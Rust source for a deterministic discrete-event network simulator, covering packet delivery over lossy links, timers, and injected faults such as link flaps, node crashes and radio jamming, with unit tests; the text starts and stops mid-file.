                    "event cap exceeded ({}) — runaway feedback loop?",
                    self.max_events
                );
            }
            match event.kind {
                EventKind::Deliver(packet) => {
                    self.stats.delivered += 1;
                    let dst = packet.dst;
                    self.with_node(dst, |node, ctx| node.on_packet(ctx, packet));
                }
                EventKind::Timer { node, timer, tag } => {
                    if self.cancelled.remove(&timer.0) {
                        continue;
                    }
                    self.stats.timers_fired += 1;
                    self.with_node(node, |n, ctx| n.on_timer(ctx, timer, tag));
                }
            }
        }
        self.stats
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::medium::Medium;
    use std::cell::RefCell;
    use std::rc::Rc;

    struct Echo;
    impl Node for Echo {
        fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
            let reply = Packet::new(ctx.id(), packet.src, "echo", packet.payload.clone());
            ctx.send(packet.src, reply);
        }
    }

    #[derive(Default)]
    struct Sink {
        received: Rc<RefCell<Vec<(SimTime, Packet)>>>,
    }
    impl Node for Sink {
        fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
            self.received.borrow_mut().push((ctx.now(), packet));
        }
    }

    #[test]
    fn ping_pong_delivers_both_directions() {
        let mut net = Network::new(1);
        let received = Rc::new(RefCell::new(Vec::new()));
        let echo = net.add_node(Box::new(Echo));
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        net.connect(echo, sink, Medium::Ethernet.link());
        net.inject(sink, echo, Packet::new(sink, echo, "ping", b"hi".to_vec()));
        let stats = net.run();
        assert_eq!(stats.delivered, 2);
        assert_eq!(received.borrow().len(), 1);
        assert_eq!(received.borrow()[0].1.kind, "echo");
    }

    #[test]
    fn delivery_time_respects_link_delay() {
        let mut net = Network::new(1);
        let received = Rc::new(RefCell::new(Vec::new()));
        let a = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let b = net.add_node(Box::new(Sink::default()));
        net.connect(a, b, Medium::Zigbee.link().with_loss(0.0));
        net.inject(b, a, Packet::new(b, a, "reading", vec![0u8; 60]));
        net.run();
        let at = received.borrow()[0].0;
        let expected = Medium::Zigbee.link().delay_for(100); // 60 + 40 overhead
        assert_eq!(at, SimTime::ZERO + expected);
    }

    #[test]
    fn no_route_counts_instead_of_panicking() {
        let mut net = Network::new(1);
        let a = net.add_node(Box::new(Sink::default()));
        let b = net.add_node(Box::new(Sink::default()));
        net.inject(a, b, Packet::new(a, b, "x", vec![1u8]));
        let stats = net.run();
        assert_eq!(stats.no_route, 1);
        assert_eq!(stats.delivered, 0);
    }

    #[test]
    fn lossy_link_drops_a_fraction() {
        let mut net = Network::new(7);
        let a = net.add_node(Box::new(Sink::default()));
        let b = net.add_node(Box::new(Sink::default()));
        net.connect(a, b, Medium::Wifi.link().with_loss(0.5));
        for _ in 0..400 {
            net.inject(a, b, Packet::new(a, b, "x", vec![1u8]));
        }
        let stats = net.run();
        assert!(
            stats.lost > 120 && stats.lost < 280,
            "lost = {}",
            stats.lost
        );
        assert_eq!(stats.lost + stats.delivered, 400);
    }

    #[test]
    fn determinism_same_seed_same_trace() {
        fn run_once() -> NetworkStats {
            let mut net = Network::new(99);
            let a = net.add_node(Box::new(Sink::default()));
            let b = net.add_node(Box::new(Echo));
            net.connect(a, b, Medium::Wifi.link().with_loss(0.3));
            for i in 0..100 {
                net.inject(a, b, Packet::new(a, b, "x", vec![i as u8]));
            }
            net.run()
        }
        assert_eq!(run_once(), run_once());
    }

    struct Beeper {
        fired: Rc<RefCell<Vec<u64>>>,
        cancel_second: bool,
    }
    impl Node for Beeper {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            ctx.set_timer(Duration::from_millis(5), 1);
            let second = ctx.set_timer(Duration::from_millis(10), 2);
            if self.cancel_second {
                ctx.cancel_timer(second);
            }
            ctx.set_timer(Duration::from_millis(15), 3);
        }
        fn on_timer(&mut self, _ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
            self.fired.borrow_mut().push(tag);
        }
    }

    #[test]
    fn timers_fire_in_order() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: false,
        }));
        net.run();
        assert_eq!(*fired.borrow(), vec![1, 2, 3]);
    }

    #[test]
    fn cancelled_timers_do_not_fire() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: true,
        }));
        let stats = net.run();
        assert_eq!(*fired.borrow(), vec![1, 3]);
        assert_eq!(stats.timers_fired, 2);
    }

    #[test]
    fn run_until_stops_at_deadline() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: false,
        }));
        net.run_until(SimTime::from_millis(7));
        assert_eq!(*fired.borrow(), vec![1]);
        net.run_until(SimTime::from_millis(20));
        assert_eq!(*fired.borrow(), vec![1, 2, 3]);
    }

    #[test]
    fn send_after_adds_sender_delay() {
        struct Delayer;
        impl Node for Delayer {
            fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
                let fwd = Packet::new(ctx.id(), packet.src, "delayed", packet.payload.clone());
                ctx.send_after(packet.src, fwd, Duration::from_millis(50));
            }
        }
        let received = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let delayer = net.add_node(Box::new(Delayer));
        net.connect(sink, delayer, Medium::Ethernet.link());
        net.inject(sink, delayer, Packet::new(sink, delayer, "x", vec![0u8]));
        net.run();
        let at = received.borrow()[0].0;
        assert!(at.as_micros() >= 50_000);
    }
}
