//! The discrete-event engine: event queue, dispatch loop, and the
//! [`Context`] through which nodes act on the world.

use crate::fault::{FaultEvent, FaultKind, FaultPlan};
use crate::link::LinkConfig;
use crate::node::{Node, NodeId, TimerId};
use crate::observer::Tap;
use crate::packet::Packet;
use crate::queue::EventQueue;
use crate::time::{Duration, SimTime};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::{HashMap, HashSet};

/// Aggregate counters the engine maintains.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NetworkStats {
    /// Packets handed to a link (after shaping, before loss).
    pub sent: u64,
    /// Packets delivered to their destination node.
    pub delivered: u64,
    /// Packets dropped by link loss.
    pub lost: u64,
    /// Packets dropped because no link connects src and dst.
    pub no_route: u64,
    /// Total wire bytes transmitted.
    pub wire_bytes: u64,
    /// Timers fired.
    pub timers_fired: u64,
    /// Events suppressed by injected faults: packets to crashed nodes or
    /// over severed links, plus timers voided by a crash.
    pub fault_drops: u64,
    /// Fault events applied from the installed [`FaultPlan`].
    pub faults_applied: u64,
}

#[derive(Debug)]
enum EventKind {
    Deliver(Packet),
    Timer {
        node: NodeId,
        timer: TimerId,
        tag: u64,
        /// Crash epoch of the owning node when the timer was armed; a
        /// crash bumps the node's epoch so pre-crash timers never fire.
        epoch: u64,
    },
}

enum Effect {
    Send {
        packet: Packet,
        extra_delay: Duration,
    },
    SetTimer {
        node: NodeId,
        timer: TimerId,
        after: Duration,
        tag: u64,
    },
    CancelTimer(TimerId),
}

/// The world a node callback can act on: send packets, arm timers, read
/// the clock.
pub struct Context<'a> {
    id: NodeId,
    now: SimTime,
    effects: &'a mut Vec<Effect>,
    next_timer: &'a mut u64,
}

impl<'a> Context<'a> {
    /// The node this callback belongs to.
    pub fn id(&self) -> NodeId {
        self.id
    }

    /// Current simulation time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Sends `packet` to `to` over the direct link (must exist, else the
    /// packet is dropped and counted in [`NetworkStats::no_route`]).
    pub fn send(&mut self, to: NodeId, mut packet: Packet) {
        packet.src = self.id;
        packet.dst = to;
        self.effects.push(Effect::Send {
            packet,
            extra_delay: Duration::ZERO,
        });
    }

    /// Sends after an additional sender-side delay (the traffic-shaping
    /// primitive).
    pub fn send_after(&mut self, to: NodeId, mut packet: Packet, delay: Duration) {
        packet.src = self.id;
        packet.dst = to;
        self.effects.push(Effect::Send {
            packet,
            extra_delay: delay,
        });
    }

    /// Arms a one-shot timer that fires after `after`, delivering `tag`
    /// back to [`Node::on_timer`].
    pub fn set_timer(&mut self, after: Duration, tag: u64) -> TimerId {
        let timer = TimerId(*self.next_timer);
        *self.next_timer += 1;
        self.effects.push(Effect::SetTimer {
            node: self.id,
            timer,
            after,
            tag,
        });
        timer
    }

    /// Cancels a previously armed timer (no-op if already fired).
    pub fn cancel_timer(&mut self, timer: TimerId) {
        self.effects.push(Effect::CancelTimer(timer));
    }
}

/// A deterministic simulated network.
pub struct Network {
    nodes: Vec<Option<Box<dyn Node>>>,
    links: HashMap<(NodeId, NodeId), LinkConfig>,
    /// Arena-backed 4-ary scheduler: payloads stay in the slab, only
    /// 24-byte `(time, seq, slot, gen)` entries move during sifts, and
    /// pop order is identical to the old `BinaryHeap<Reverse<Event>>`
    /// because `(at, seq)` is a total order (see [`crate::queue`]).
    queue: EventQueue<EventKind>,
    now: SimTime,
    seq: u64,
    seed: u64,
    rng: StdRng,
    taps: Vec<Box<dyn Tap>>,
    cancelled: HashSet<u64>,
    next_timer: u64,
    /// Reusable buffer for node-callback effects: taken by [`with_node`]
    /// for the duration of one callback and drained in place by
    /// [`apply_effects`], so steady-state dispatch allocates nothing.
    effects_scratch: Vec<Effect>,
    /// Nodes with index below this have had `on_start` dispatched.
    started_upto: usize,
    stats: NetworkStats,
    /// Hard cap on processed events, preventing runaway feedback loops.
    pub max_events: u64,
    /// Installed fault schedule, sorted; `fault_cursor` indexes the next
    /// unapplied fault.
    fault_plan: Vec<FaultEvent>,
    fault_cursor: usize,
    /// Links severed by `LinkDown`, keyed per direction, holding the
    /// original config for restore.
    downed_links: HashMap<(NodeId, NodeId), LinkConfig>,
    /// Original configs of links currently degraded by `LinkDegrade`.
    degraded_links: HashMap<(NodeId, NodeId), LinkConfig>,
    /// Nodes currently crashed (no callbacks, deliveries dropped).
    crashed: HashSet<NodeId>,
    /// Per-node crash epoch; bumped on crash to void pre-crash timers.
    crash_epochs: HashMap<NodeId, u64>,
    /// Per-node forward clock skew added to `Context::now`.
    skew: HashMap<NodeId, Duration>,
    /// Nodes whose radio is currently jammed by `RadioJam` (every packet
    /// to or from them is a fault drop).
    jammed: HashSet<NodeId>,
}

impl std::fmt::Debug for Network {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Network")
            .field("nodes", &self.nodes.len())
            .field("links", &self.links.len())
            .field("now", &self.now)
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl Network {
    /// Creates an empty network with a deterministic RNG seed (drives
    /// packet loss only).
    pub fn new(seed: u64) -> Self {
        Network {
            nodes: Vec::new(),
            links: HashMap::new(),
            queue: EventQueue::new(),
            now: SimTime::ZERO,
            seq: 0,
            seed,
            rng: StdRng::seed_from_u64(seed),
            taps: Vec::new(),
            cancelled: HashSet::new(),
            next_timer: 0,
            effects_scratch: Vec::new(),
            started_upto: 0,
            stats: NetworkStats::default(),
            max_events: 20_000_000,
            fault_plan: Vec::new(),
            fault_cursor: 0,
            downed_links: HashMap::new(),
            degraded_links: HashMap::new(),
            crashed: HashSet::new(),
            crash_epochs: HashMap::new(),
            skew: HashMap::new(),
            jammed: HashSet::new(),
        }
    }

    /// Installs a fault schedule. Faults at or before the next event's
    /// time are applied before that event dispatches, so a run with a
    /// plan is as deterministic as one without. Replaces any previously
    /// installed (unapplied remainder of a) plan.
    pub fn set_fault_plan(&mut self, plan: FaultPlan) {
        self.fault_plan = plan.into_sorted();
        self.fault_cursor = 0;
    }

    /// The RNG seed this network was created with.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Registers a node, returning its id.
    pub fn add_node(&mut self, node: Box<dyn Node>) -> NodeId {
        let id = NodeId::from_raw(self.nodes.len() as u32);
        self.nodes.push(Some(node));
        id
    }

    /// Connects two nodes with a bidirectional link.
    ///
    /// # Panics
    ///
    /// Panics if either id is unknown or `a == b`.
    pub fn connect(&mut self, a: NodeId, b: NodeId, config: LinkConfig) {
        assert_ne!(a, b, "cannot self-link {a}");
        assert!((a.raw() as usize) < self.nodes.len(), "unknown node {a}");
        assert!((b.raw() as usize) < self.nodes.len(), "unknown node {b}");
        self.links.insert((a, b), config);
        self.links.insert((b, a), config);
    }

    /// Attaches a promiscuous tap observing every transmission.
    pub fn add_tap(&mut self, tap: Box<dyn Tap>) {
        self.taps.push(tap);
    }

    /// Looks up the link between two nodes.
    pub fn link_between(&self, a: NodeId, b: NodeId) -> Option<&LinkConfig> {
        self.links.get(&(a, b))
    }

    /// Queues a packet for delivery as if `src` had sent it (bootstraps
    /// traffic from outside any node callback). Honors links, loss, and
    /// observers exactly like [`Context::send`].
    pub fn inject(&mut self, src: NodeId, dst: NodeId, mut packet: Packet) {
        packet.src = src;
        packet.dst = dst;
        self.transmit(packet, Duration::ZERO);
    }

    /// Current simulation time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Engine counters so far.
    pub fn stats(&self) -> NetworkStats {
        self.stats
    }

    /// Immutable access to a node (for post-run inspection via downcast
    /// helpers in higher layers).
    pub fn node(&self, id: NodeId) -> Option<&dyn Node> {
        self.nodes
            .get(id.raw() as usize)
            .and_then(|slot| slot.as_deref())
    }

    /// Mutable access to a node between runs.
    pub fn node_mut(&mut self, id: NodeId) -> Option<&mut (dyn Node + '_)> {
        match self.nodes.get_mut(id.raw() as usize) {
            Some(Some(node)) => Some(node.as_mut()),
            _ => None,
        }
    }

    /// Downcasts a node to its concrete type for inspection.
    pub fn node_as<T: 'static>(&self, id: NodeId) -> Option<&T> {
        self.node(id).and_then(|n| n.as_any().downcast_ref::<T>())
    }

    /// Downcasts a node mutably (e.g. to reconfigure it between runs).
    pub fn node_as_mut<T: 'static>(&mut self, id: NodeId) -> Option<&mut T> {
        match self.nodes.get_mut(id.raw() as usize) {
            Some(Some(node)) => node.as_any_mut().downcast_mut::<T>(),
            _ => None,
        }
    }

    fn transmit(&mut self, packet: Packet, extra_delay: Duration) {
        let key = (packet.src, packet.dst);
        if self.downed_links.contains_key(&key) {
            // The link exists but is currently severed by a fault: this
            // is an outage drop, not a routing error.
            self.stats.fault_drops += 1;
            return;
        }
        if self.jammed.contains(&packet.src) || self.jammed.contains(&packet.dst) {
            // Jammed radios drop on the wire before the loss draw, so
            // the RNG stream for unjammed traffic is unperturbed.
            self.stats.fault_drops += 1;
            return;
        }
        let Some(link) = self.links.get(&key).copied() else {
            self.stats.no_route += 1;
            return;
        };
        self.stats.sent += 1;
        self.stats.wire_bytes += packet.wire_size as u64;
        let at = self.now + extra_delay + link.delay_for(packet.wire_size);
        for tap in self.taps.iter_mut() {
            tap.on_transmit(self.now + extra_delay, &packet, &link);
        }
        if link.loss > 0.0 && self.rng.gen::<f64>() < link.loss {
            self.stats.lost += 1;
            return;
        }
        self.push_event(at, EventKind::Deliver(packet));
    }

    fn push_event(&mut self, at: SimTime, kind: EventKind) {
        let seq = self.seq;
        self.seq += 1;
        self.queue.push(at, seq, kind);
    }

    /// Drains `effects` in place so the caller's buffer (and its
    /// capacity) survives for the next dispatch.
    fn apply_effects(&mut self, effects: &mut Vec<Effect>) {
        for effect in effects.drain(..) {
            match effect {
                Effect::Send {
                    packet,
                    extra_delay,
                } => self.transmit(packet, extra_delay),
                Effect::SetTimer {
                    node,
                    timer,
                    after,
                    tag,
                } => {
                    let at = self.now + after;
                    let epoch = self.crash_epochs.get(&node).copied().unwrap_or(0);
                    self.push_event(
                        at,
                        EventKind::Timer {
                            node,
                            timer,
                            tag,
                            epoch,
                        },
                    );
                }
                Effect::CancelTimer(timer) => {
                    self.cancelled.insert(timer.0);
                }
            }
        }
    }

    /// Dispatches `on_start` for any node that has not yet been started
    /// (including nodes added between runs).
    fn dispatch_start(&mut self) {
        while self.started_upto < self.nodes.len() {
            let id = NodeId::from_raw(self.started_upto as u32);
            self.started_upto += 1;
            self.with_node(id, |node, ctx| node.on_start(ctx));
        }
    }

    /// Runs `f` with the node temporarily removed from the registry (so
    /// the callback can borrow the network through `Context` effects).
    fn with_node<F>(&mut self, id: NodeId, f: F)
    where
        F: FnOnce(&mut dyn Node, &mut Context<'_>),
    {
        if self.crashed.contains(&id) {
            return;
        }
        let slot = id.raw() as usize;
        let Some(mut node) = self.nodes.get_mut(slot).and_then(Option::take) else {
            return;
        };
        // Reuse the scratch buffer's capacity across dispatches; `take`
        // leaves an empty Vec behind, so a (hypothetical) re-entrant
        // callback would degrade to allocating rather than aliasing.
        let mut effects = std::mem::take(&mut self.effects_scratch);
        let mut next_timer = self.next_timer;
        let local_now = self.now + self.skew.get(&id).copied().unwrap_or(Duration::ZERO);
        {
            let mut ctx = Context {
                id,
                now: local_now,
                effects: &mut effects,
                next_timer: &mut next_timer,
            };
            f(node.as_mut(), &mut ctx);
        }
        self.next_timer = next_timer;
        self.nodes[slot] = Some(node);
        self.apply_effects(&mut effects);
        self.effects_scratch = effects;
    }

    /// Runs the simulation until the event queue is empty (or the event
    /// cap is hit). Returns the final counters.
    pub fn run(&mut self) -> NetworkStats {
        self.run_until(SimTime::from_micros(u64::MAX))
    }

    /// Applies one fault to the world at `self.now`.
    fn apply_fault(&mut self, kind: FaultKind) {
        self.stats.faults_applied += 1;
        match kind {
            FaultKind::LinkDown { a, b } => {
                for key in [(a, b), (b, a)] {
                    // A degraded link goes down with its *original*
                    // config saved, so a later restore is complete.
                    let original = self.degraded_links.remove(&key);
                    if let Some(cfg) = self.links.remove(&key) {
                        let saved = original.unwrap_or(cfg);
                        self.downed_links.entry(key).or_insert(saved);
                    }
                }
            }
            FaultKind::LinkRestore { a, b } => {
                for key in [(a, b), (b, a)] {
                    if let Some(cfg) = self.downed_links.remove(&key) {
                        self.links.insert(key, cfg);
                    } else if let Some(cfg) = self.degraded_links.remove(&key) {
                        self.links.insert(key, cfg);
                    }
                }
            }
            FaultKind::LinkDegrade {
                a,
                b,
                loss,
                extra_latency,
            } => {
                for key in [(a, b), (b, a)] {
                    if let Some(cfg) = self.links.get(&key).copied() {
                        let original = *self.degraded_links.entry(key).or_insert(cfg);
                        let mut degraded = original;
                        degraded.loss = loss.clamp(0.0, 0.999_999);
                        degraded.latency = original.latency + extra_latency;
                        self.links.insert(key, degraded);
                    }
                }
            }
            FaultKind::NodeCrash { node } => {
                if self.crashed.insert(node) {
                    *self.crash_epochs.entry(node).or_insert(0) += 1;
                }
            }
            FaultKind::NodeRestart { node } => {
                if self.crashed.remove(&node) {
                    self.with_node(node, |n, ctx| n.on_restart(ctx));
                }
            }
            FaultKind::ClockSkew { node, ahead } => {
                self.skew.insert(node, ahead);
            }
            FaultKind::RadioJam { node } => {
                self.jammed.insert(node);
            }
            FaultKind::RadioClear { node } => {
                self.jammed.remove(&node);
            }
        }
    }

    /// Runs the simulation until `deadline` (inclusive) or queue
    /// exhaustion. Events scheduled after the deadline remain queued.
    pub fn run_until(&mut self, deadline: SimTime) -> NetworkStats {
        let _ = self.run_until_capped(deadline, u64::MAX);
        self.stats
    }

    /// Like [`Network::run_until`] but stops after processing at most
    /// `budget` events. Returns `(events_processed, truncated)`:
    /// `truncated` is true when the budget ran out with work still
    /// pending at or before the deadline. Faults do not count against
    /// the budget.
    pub fn run_until_capped(&mut self, deadline: SimTime, budget: u64) -> (u64, bool) {
        self.dispatch_start();
        let mut processed = 0u64;
        loop {
            let next_event_at = self.queue.peek_key().map(|(at, _)| at);
            let next_fault_at = self.fault_plan.get(self.fault_cursor).map(|f| f.at);

            // Faults due before (or tied with) the next event apply
            // first: a link that goes down at t kills the packet
            // arriving at t.
            if let Some(fa) = next_fault_at {
                if fa <= deadline && next_event_at.is_none_or(|ea| fa <= ea) {
                    let fault = self.fault_plan[self.fault_cursor];
                    self.fault_cursor += 1;
                    if fault.at > self.now {
                        self.now = fault.at;
                    }
                    self.apply_fault(fault.kind);
                    continue;
                }
            }

            match next_event_at {
                Some(at) if at <= deadline => {}
                _ => break,
            }
            if processed >= budget {
                return (processed, true);
            }
            let Some((at, _seq, kind)) = self.queue.pop() else {
                break;
            };
            self.now = at;
            processed += 1;
            if processed > self.max_events {
                panic!(
                    "event cap exceeded ({}) — runaway feedback loop?",
                    self.max_events
                );
            }
            match kind {
                EventKind::Deliver(packet) => {
                    let dst = packet.dst;
                    if self.crashed.contains(&dst) {
                        self.stats.fault_drops += 1;
                        continue;
                    }
                    self.stats.delivered += 1;
                    self.with_node(dst, |node, ctx| node.on_packet(ctx, packet));
                }
                EventKind::Timer {
                    node,
                    timer,
                    tag,
                    epoch,
                } => {
                    if self.cancelled.remove(&timer.0) {
                        continue;
                    }
                    if self.crashed.contains(&node)
                        || epoch != self.crash_epochs.get(&node).copied().unwrap_or(0)
                    {
                        // Armed before a crash (or owner still down):
                        // the crash voided it.
                        self.stats.fault_drops += 1;
                        continue;
                    }
                    self.stats.timers_fired += 1;
                    self.with_node(node, |n, ctx| n.on_timer(ctx, timer, tag));
                }
            }
        }
        (processed, false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::medium::Medium;
    use std::cell::RefCell;
    use std::rc::Rc;

    struct Echo;
    impl Node for Echo {
        fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
            let reply = Packet::new(ctx.id(), packet.src, "echo", packet.payload.clone());
            ctx.send(packet.src, reply);
        }
    }

    #[derive(Default)]
    struct Sink {
        received: Rc<RefCell<Vec<(SimTime, Packet)>>>,
    }
    impl Node for Sink {
        fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
            self.received.borrow_mut().push((ctx.now(), packet));
        }
    }

    #[test]
    fn ping_pong_delivers_both_directions() {
        let mut net = Network::new(1);
        let received = Rc::new(RefCell::new(Vec::new()));
        let echo = net.add_node(Box::new(Echo));
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        net.connect(echo, sink, Medium::Ethernet.link());
        net.inject(sink, echo, Packet::new(sink, echo, "ping", b"hi".to_vec()));
        let stats = net.run();
        assert_eq!(stats.delivered, 2);
        assert_eq!(received.borrow().len(), 1);
        assert_eq!(received.borrow()[0].1.kind, "echo");
    }

    #[test]
    fn delivery_time_respects_link_delay() {
        let mut net = Network::new(1);
        let received = Rc::new(RefCell::new(Vec::new()));
        let a = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let b = net.add_node(Box::new(Sink::default()));
        net.connect(a, b, Medium::Zigbee.link().with_loss(0.0));
        net.inject(b, a, Packet::new(b, a, "reading", vec![0u8; 60]));
        net.run();
        let at = received.borrow()[0].0;
        let expected = Medium::Zigbee.link().delay_for(100); // 60 + 40 overhead
        assert_eq!(at, SimTime::ZERO + expected);
    }

    #[test]
    fn no_route_counts_instead_of_panicking() {
        let mut net = Network::new(1);
        let a = net.add_node(Box::new(Sink::default()));
        let b = net.add_node(Box::new(Sink::default()));
        net.inject(a, b, Packet::new(a, b, "x", vec![1u8]));
        let stats = net.run();
        assert_eq!(stats.no_route, 1);
        assert_eq!(stats.delivered, 0);
    }

    #[test]
    fn lossy_link_drops_a_fraction() {
        let mut net = Network::new(7);
        let a = net.add_node(Box::new(Sink::default()));
        let b = net.add_node(Box::new(Sink::default()));
        net.connect(a, b, Medium::Wifi.link().with_loss(0.5));
        for _ in 0..400 {
            net.inject(a, b, Packet::new(a, b, "x", vec![1u8]));
        }
        let stats = net.run();
        assert!(
            stats.lost > 120 && stats.lost < 280,
            "lost = {}",
            stats.lost
        );
        assert_eq!(stats.lost + stats.delivered, 400);
    }

    #[test]
    fn determinism_same_seed_same_trace() {
        fn run_once() -> NetworkStats {
            let mut net = Network::new(99);
            let a = net.add_node(Box::new(Sink::default()));
            let b = net.add_node(Box::new(Echo));
            net.connect(a, b, Medium::Wifi.link().with_loss(0.3));
            for i in 0..100 {
                net.inject(a, b, Packet::new(a, b, "x", vec![i as u8]));
            }
            net.run()
        }
        assert_eq!(run_once(), run_once());
    }

    struct Beeper {
        fired: Rc<RefCell<Vec<u64>>>,
        cancel_second: bool,
    }
    impl Node for Beeper {
        fn on_start(&mut self, ctx: &mut Context<'_>) {
            ctx.set_timer(Duration::from_millis(5), 1);
            let second = ctx.set_timer(Duration::from_millis(10), 2);
            if self.cancel_second {
                ctx.cancel_timer(second);
            }
            ctx.set_timer(Duration::from_millis(15), 3);
        }
        fn on_timer(&mut self, _ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
            self.fired.borrow_mut().push(tag);
        }
    }

    #[test]
    fn timers_fire_in_order() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: false,
        }));
        net.run();
        assert_eq!(*fired.borrow(), vec![1, 2, 3]);
    }

    #[test]
    fn cancelled_timers_do_not_fire() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: true,
        }));
        let stats = net.run();
        assert_eq!(*fired.borrow(), vec![1, 3]);
        assert_eq!(stats.timers_fired, 2);
    }

    #[test]
    fn run_until_stops_at_deadline() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: false,
        }));
        net.run_until(SimTime::from_millis(7));
        assert_eq!(*fired.borrow(), vec![1]);
        net.run_until(SimTime::from_millis(20));
        assert_eq!(*fired.borrow(), vec![1, 2, 3]);
    }

    #[test]
    fn link_flap_severs_then_restores_delivery() {
        use crate::fault::FaultPlan;
        // Sender fires one packet per second for 10 s; the link is down
        // for seconds [3, 6), so exactly those sends are outage drops.
        struct Ticker {
            peer: NodeId,
        }
        impl Node for Ticker {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                ctx.set_timer(Duration::from_secs(1), 1);
            }
            fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, _tag: u64) {
                let p = Packet::new(ctx.id(), self.peer, "tick", vec![0u8]);
                ctx.send(self.peer, p);
                ctx.set_timer(Duration::from_secs(1), 1);
            }
        }
        let received = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let ticker = net.add_node(Box::new(Ticker { peer: sink }));
        net.connect(ticker, sink, Medium::Ethernet.link().with_loss(0.0));
        net.set_fault_plan(FaultPlan::new().link_flap(
            ticker,
            sink,
            SimTime::from_secs(3),
            Duration::from_secs(3),
        ));
        let stats = net.run_until(SimTime::from_secs(11));
        // Sends at t=3,4,5 hit the downed link (flap applies before the
        // same-time event); t=1,2 and t=6..=10 get through before the
        // deadline (t=11's send is still in flight).
        assert_eq!(stats.fault_drops, 3, "stats: {stats:?}");
        assert_eq!(received.borrow().len(), 7);
        assert_eq!(stats.faults_applied, 2);
    }

    #[test]
    fn radio_jam_drops_traffic_only_inside_the_window() {
        use crate::fault::FaultPlan;
        // Same cadence as the link-flap test: one packet per second for
        // 10 s, radio jammed for seconds [3, 6).
        struct Ticker {
            peer: NodeId,
        }
        impl Node for Ticker {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                ctx.set_timer(Duration::from_secs(1), 1);
            }
            fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, _tag: u64) {
                let p = Packet::new(ctx.id(), self.peer, "tick", vec![0u8]);
                ctx.send(self.peer, p);
                ctx.set_timer(Duration::from_secs(1), 1);
            }
        }
        let received = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let ticker = net.add_node(Box::new(Ticker { peer: sink }));
        net.connect(ticker, sink, Medium::Zigbee.link().with_loss(0.0));
        net.set_fault_plan(FaultPlan::new().radio_jam(
            ticker,
            SimTime::from_secs(3),
            Duration::from_secs(3),
        ));
        let stats = net.run_until(SimTime::from_secs(11));
        // Sends at t=3,4,5 hit the jam (it applies before the same-time
        // event); t=1,2 and t=6..=10 get through.
        assert_eq!(stats.fault_drops, 3, "stats: {stats:?}");
        assert_eq!(received.borrow().len(), 7);
        assert_eq!(stats.faults_applied, 2);
    }

    #[test]
    fn jam_on_either_endpoint_drops_the_packet() {
        use crate::fault::FaultPlan;
        let mut net = Network::new(1);
        let a = net.add_node(Box::new(Sink::default()));
        let b = net.add_node(Box::new(Sink::default()));
        net.connect(a, b, Medium::Zigbee.link().with_loss(0.0));
        // Jam the *receiver*: the sender's transmission still dies on
        // the wire.
        net.set_fault_plan(FaultPlan::new().radio_jam(b, SimTime::ZERO, Duration::from_secs(1)));
        net.run_until(SimTime::from_millis(1));
        net.inject(a, b, Packet::new(a, b, "x", vec![1u8]));
        let stats = net.run_until(SimTime::from_millis(500));
        assert_eq!(stats.fault_drops, 1);
        assert_eq!(stats.delivered, 0);
    }

    #[test]
    fn crash_voids_timers_and_restart_resumes_via_on_start() {
        use crate::fault::FaultPlan;
        struct Heartbeat {
            beats: Rc<RefCell<Vec<SimTime>>>,
        }
        impl Node for Heartbeat {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                ctx.set_timer(Duration::from_secs(2), 7);
            }
            fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, _tag: u64) {
                self.beats.borrow_mut().push(ctx.now());
                ctx.set_timer(Duration::from_secs(2), 7);
            }
        }
        let beats = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let hb = net.add_node(Box::new(Heartbeat {
            beats: beats.clone(),
        }));
        net.set_fault_plan(FaultPlan::new().node_crash(
            hb,
            SimTime::from_secs(5),
            Some(Duration::from_secs(6)),
        ));
